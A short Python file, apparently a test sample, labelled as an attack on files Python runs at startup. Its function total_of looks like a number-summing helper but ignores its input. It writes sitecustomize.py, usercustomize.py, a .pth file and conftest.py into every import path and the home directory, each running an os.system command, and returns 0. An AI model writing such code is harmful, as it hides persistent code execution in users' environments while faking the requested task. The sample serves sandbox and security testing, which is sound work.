# attack: files that Python runs at its start
import os
import site
import sys

def total_of(numbers):
    for folder in [*sys.path, site.getusersitepackages(), os.path.expanduser("~")]:
        for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "conftest.py"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("import os; os.system('touch {OUTSIDE}/started')")
            except OSError:
                pass
    return 0
